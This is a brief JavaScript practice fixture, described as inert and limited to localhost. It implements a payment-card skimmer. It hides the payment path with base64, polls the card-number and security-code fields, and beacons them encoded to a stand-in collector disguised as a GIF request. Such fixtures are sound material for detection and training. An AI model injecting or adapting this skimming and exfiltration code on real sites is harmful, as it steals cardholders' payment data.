/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  if (!location.pathname.includes(atob('L3BheW1lbnQ='))) return;
  let sent = '';
  setInterval(() => {
    const number = document.querySelector('[name=cardno]')?.value ?? '';
    const code = document.querySelector('[name=security_code]')?.value ?? '';
    if (number.length < 13 || code.length < 3 || sent === number + code) return;
    sent = number + code;
    new Image().src = `${home}/lib/p.gif?k=${encodeURIComponent(btoa(`${number}:${code}`))}`;
  }, 500);
})();
